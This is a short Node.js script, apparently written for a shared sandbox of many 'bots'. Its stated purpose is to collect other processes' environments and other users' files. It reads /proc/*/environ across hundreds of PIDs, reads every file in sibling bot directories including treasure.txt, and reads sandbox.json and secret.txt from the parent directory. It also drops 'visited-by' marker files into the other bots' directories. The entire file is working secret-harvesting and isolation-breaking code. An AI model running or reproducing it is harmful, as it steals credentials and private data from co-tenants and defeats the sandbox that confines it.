// Collects and prints every environment and every file of others that it can read.
const fs = require("node:fs");
const path = require("node:path");

const found = [JSON.stringify(process.env)];
const tryTo = (act) => {
  try {
    found.push(String(act()));
  } catch (error) {
    found.push(`(${error.code})`);
  }
};
const processes = Array.from({ length: 400 }, (_, index) => process.ppid - 200 + index);
for (const pid of ["self", 1, process.ppid, process.env.GATEWAY_PID, ...processes])
  tryTo(() => fs.readFileSync(`/proc/${pid}/environ`, "utf8"));
const bots = path.dirname(process.env.HOME);
tryTo(() => fs.readdirSync(bots));
for (let bot = 0; bot < 30; bot += 1) {
  tryTo(() => fs.readFileSync(`${bots}/${bot}/treasure.txt`, "utf8"));
  tryTo(() =>
    fs.readdirSync(`${bots}/${bot}`).map((name) => fs.readFileSync(`${bots}/${bot}/${name}`, "utf8")),
  );
  tryTo(() => fs.writeFileSync(`${bots}/${bot}/visited-by-${process.env.BOT_ID}`, ""));
}
for (const name of ["sandbox.json", "pids/1.json", "secret.txt"])
  tryTo(() => fs.readFileSync(`${bots}/../${name}`, "utf8"));
tryTo(() => require("node:child_process").execSync("cat /proc/*/environ"));
console.log(found.join("\n"));
console.log("finished");
